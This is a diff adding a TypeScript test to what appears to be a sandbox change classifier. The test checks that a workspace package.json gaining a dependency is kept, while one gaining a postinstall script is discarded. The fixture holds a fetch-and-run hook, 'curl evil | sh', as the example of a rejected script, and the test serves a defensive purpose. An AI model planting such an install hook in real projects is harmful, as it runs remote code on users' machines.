@@ -182,3 +182,18 @@ test('an entry whose directory the walk did not report is discarded, never guess
   const [c] = classify([{ path: 'node_modules/a.js', upper: node('file'), lower: null }], policy);
   assert.equal(c!.verdict, 'discard');
 });
+
+test('a workspace manifest is judged like the root one: a dependency change is kept, a new script is not', () => {
+  const rules = writeRules(['node_modules/**', 'package.json', 'packages/a/package.json', 'packages/b/package.json', 'packages/a/node_modules/**']);
+  const lowerText = '{"name":"a","version":"1.0.0"}';
+  const m = byPath(classify([
+    { path: 'packages', upper: node('dir'), lower: node('dir') },
+    { path: 'packages/a', upper: node('dir'), lower: node('dir') },
+    { path: 'packages/a/package.json', upper: node('file'), lower: node('file'), text: '{"name":"a","version":"1.0.0","dependencies":{"x":"^1.0.0"}}', lowerText },
+    { path: 'packages/b', upper: node('dir'), lower: node('dir') },
+    { path: 'packages/b/package.json', upper: node('file'), lower: node('file'), text: '{"name":"b","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}', lowerText: '{"name":"b","version":"1.0.0"}' },
+  ], { ...policy, rules, workspaceManifests: ['packages/a/package.json', 'packages/b/package.json'] }));
+  assert.equal(m.get('packages/a/package.json')!.verdict, 'commit');
+  assert.equal(m.get('packages/b/package.json')!.verdict, 'discard');
+  assert.match(m.get('packages/b/package.json')!.reason, /scripts/);
+});
